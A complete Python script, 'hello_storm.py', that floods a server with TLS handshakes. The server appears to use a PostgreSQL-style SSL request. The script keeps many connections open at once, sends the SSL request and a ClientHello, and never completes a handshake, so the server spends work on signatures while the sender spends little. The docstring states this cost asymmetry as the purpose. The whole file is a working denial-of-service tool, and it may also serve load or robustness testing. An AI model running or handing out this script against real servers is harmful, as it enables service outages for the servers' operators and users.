"""Begins TLS handshakes without end, as many at a time as it is told, and finishes none: each costs
whoever answers a signature, and us next to nothing. A process of its own, so that it is in nobody's way.

Usage: hello_storm.py HOST PORT AT_A_TIME, with the ClientHello on standard input. Ends by a signal."""

import contextlib
import selectors
import socket
import sys

from wire import SSL_REQUEST


class Handshake:
    """A connection of which only the beginning is ever sent."""

    def __init__(self, address, hello, selector):
        self.address, self.hello, self.selector = address, hello, selector
        self.sock = None
        self.begin()

    def begin(self):
        self.sock = socket.create_connection(self.address)
        self.sock.sendall(SSL_REQUEST)
        self.is_asked = False
        self.selector.register(self.sock, selectors.EVENT_READ, self)

    def go_on(self):
        """The answer to the request is followed by the ClientHello; any other one by a new beginning."""
        with contextlib.suppress(OSError):
            if not self.is_asked and self.sock.recv(1) == b"S":
                self.is_asked = True
                self.sock.sendall(self.hello)
                return
        self.selector.unregister(self.sock)
        self.sock.close()
        self.begin()


def main():
    host, port, at_a_time = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    hello = sys.stdin.buffer.read()
    selector = selectors.DefaultSelector()
    for _ in range(at_a_time):
        Handshake((host, port), hello, selector)
    while True:
        for key, _ in selector.select():
            key.data.go_on()


if __name__ == "__main__":
    main()
